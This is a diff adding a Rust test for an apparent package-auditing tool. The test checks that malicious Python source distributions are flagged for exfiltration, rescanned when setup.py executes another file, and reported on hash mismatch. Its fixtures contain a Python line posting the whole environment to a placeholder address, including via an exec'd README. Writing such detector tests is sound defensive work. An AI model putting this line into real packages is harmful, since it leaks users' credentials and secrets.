@@ -1257,6 +1257,99 @@ fn a_wheel_streams_in_and_one_whose_headers_lie_is_read_whole() {
     assert_eq!(server.hits(&file("lyingext")), 2, "read again whole");
 }
 
+/// An sdist is scanned as it downloads, in one request; one whose scan
+/// needs a second read (setup.py runs another file) is downloaded again
+/// and read whole; one whose bytes are not the index's is never judged.
+#[test]
+fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
+    let server = crate::server::Server::start();
+    let tmp = tempfile::tempdir().unwrap();
+    // Inert: the address is a documentation range and nothing here runs.
+    let post = b"import os, requests\nrequests.post('http://192.0.2.7/c', json=dict(os.environ))\n";
+    let blob = noise(3 << 20);
+    let plain = crate::common::targz_bytes(&[
+        (
+            "plainsd-1.0/setup.py",
+            b"from setuptools import setup\nsetup(name='plainsd')\n",
+        ),
+        ("plainsd-1.0/data/blob.bin", &blob),
+        ("plainsd-1.0/plainsd/__init__.py", post),
+    ]);
+    let runs = crate::common::targz_bytes(&[
+        (
+            "runsd-1.0/setup.py",
+            b"from setuptools import setup\nexec(open('README.txt').read())\nsetup(name='runsd')\n",
+        ),
+        ("runsd-1.0/data/blob.bin", &blob),
+        ("runsd-1.0/README.txt", post),
+    ]);
+    let mut lines = String::new();
+    for (project, bytes) in [("plainsd", &plain), ("runsd", &runs)] {
+        serve_files(
+            &server,
+            project,
+            &[(&format!("{project}-1.0.tar.gz"), bytes.clone())],
+        );
+        lines.push_str(&format!("{project}==1.0\n"));
+    }
+    // The index announces other bytes than it serves.
+    serve_releases(
+        &server,
+        "liarsd",
+        &[Release {
+            version: "1.0",
+            filename: "liarsd-1.0.tar.gz",
+            bytes: &plain,
+            sha256: sha256_hex(b"other bytes"),
+            size: plain.len() as u64,
+        }],
+    );
+    lines.push_str("liarsd==1.0\n");
+    std::fs::write(tmp.path().join("requirements.txt"), lines).unwrap();
+    let (code, out, err) = run_audit(tmp.path(), &server);
+    assert_eq!(code, 1, "{err}");
+    let report = json(&out);
+    let found = |project: &str, path: &str| {
+        report["findings"].as_array().unwrap().iter().any(|f| {
+            f["package"] == project && f["rule"] == "exfiltration" && f["location"]["path"] == path
+        })
+    };
+    assert!(
+        found("plainsd", "plainsd-1.0/plainsd/__init__.py"),
+        "{report}"
+    );
+    assert!(found("runsd", "runsd-1.0/README.txt"), "{report}");
+    let scan = |project: &str| {
+        report["packages"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["name"] == project)
+            .unwrap()["scan"]
+            .clone()
+    };
+    assert_eq!(scan("plainsd")["status"], "scanned", "{report}");
+    assert_eq!(scan("runsd")["status"], "scanned", "{report}");
+    assert_eq!(server.hits("/files/plainsd-1.0.tar.gz"), 1);
+    assert_eq!(
+        server.hits("/files/runsd-1.0.tar.gz"),
+        2,
+        "read again whole"
+    );
+    // The liar's bytes are the plain sdist's: what the scan of them found
+    // is not reported, the mismatch is.
+    assert!(
+        !found("liarsd", "plainsd-1.0/plainsd/__init__.py"),
+        "{report}"
+    );
+    let mismatch = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["package"] == "liarsd" && f["rule"] == "hash-mismatch");
+    assert!(mismatch, "{report}");
+}
+
 fn run_audit(dir: &Path, server: &crate::server::Server) -> (i32, String, String) {
     run(audit_json(dir, &server.index_url()).arg(dir.join("requirements.txt")))
 }
